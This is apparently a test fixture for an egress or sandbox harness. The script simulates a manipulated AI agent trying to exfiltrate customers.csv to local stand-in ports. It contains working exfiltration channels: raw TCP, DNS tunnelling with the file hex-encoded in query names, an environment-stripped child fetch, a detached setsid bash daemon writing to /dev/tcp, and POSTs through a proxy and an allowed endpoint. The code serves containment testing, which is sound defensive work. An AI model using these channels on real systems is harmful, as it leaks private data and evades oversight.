// An agent that was talked into leaking customers.csv. It tries every way in turn and prints what
// it saw: a line with the way, a tab and a word. PORTS in its environment says at which port of
// this machine each way ends: {"tcp":…,"dns":…,…}.
import { spawn } from "node:child_process";
import { createSocket } from "node:dgram";
import { readFileSync } from "node:fs";
import { connect } from "node:net";

const ports = JSON.parse(process.env.PORTS);
const loot = readFileSync("customers.csv", "utf8");

const tcp = (port) =>
  new Promise((resolve) => {
    const socket = connect(port, "127.0.0.1", () => socket.end(loot, () => resolve("sent")));
    socket.on("error", ({ code }) => resolve(code));
  });

/** A name server of the thief's would get this: the file as the name that is asked for. */
function questionWith(text) {
  const labels = Buffer.from(text)
    .toString("hex")
    .match(/.{1,60}/g)
    .slice(0, 4);
  const name = labels.map((label) =>
    Buffer.concat([Buffer.from([label.length]), Buffer.from(label)]),
  );
  return Buffer.concat([
    Buffer.from("000101000001000000000000", "hex"),
    ...name,
    Buffer.from("0000010001", "hex"),
  ]);
}

const dns = (port) =>
  new Promise((resolve) => {
    const socket = createSocket("udp4");
    const end = (saw) => resolve(saw) ?? socket.close();
    socket.on("error", ({ code }) => end(code));
    socket.send(questionWith(loot), port, "127.0.0.1", (error) =>
      end(error === null ? "sent" : error.code),
    );
  });

/** Runs a program; what it prints first. */
const run = (program, args, options) =>
  new Promise((resolve) => {
    const child = spawn(program, args, { ...options, stdio: ["ignore", "pipe", "ignore"] });
    child.stdout.once("data", (chunk) => resolve(String(chunk).trim()));
    child.on("error", ({ code }) => resolve(code)).on("close", () => resolve("nothing"));
  });

const POST = `fetch(process.argv[1], { method: "POST", body: process.argv[2] })
  .then((answer) => console.log(answer.status), (error) => console.log(error.cause?.code ?? error.message))`;
const unset = (port) =>
  run(process.execPath, ["-e", POST, `http://127.0.0.1:${port}/`, loot], { env: {} });

const TRY = `{ printf %s "$1" >"/dev/tcp/127.0.0.1/$2"; } 2>/dev/null && echo sent || echo refused; sleep 60`;
const daemon = (port) =>
  run("setsid", ["bash", "-c", TRY, "bash", loot, String(port)], { detached: true });

async function post(url) {
  try {
    const answer = await fetch(url, { method: "POST", body: loot });
    const text = await answer.text();
    return `${answer.status} ${/"code":"(\w+)"/.exec(text)?.[1] ?? text}`;
  } catch (error) {
    return error.cause?.code ?? error.message;
  }
}
const proxy = (port) => post(`http://127.0.0.2:${port}/`);
const allowed = (port) => post(`http://127.0.0.3:${port}/report`);

const ways = { tcp, dns, unset, daemon, proxy, allowed };
for (const [way, take] of Object.entries(ways)) console.log(`${way}\t${await take(ports[way])}`);
// What it left behind does not end by itself.
process.exit(0);
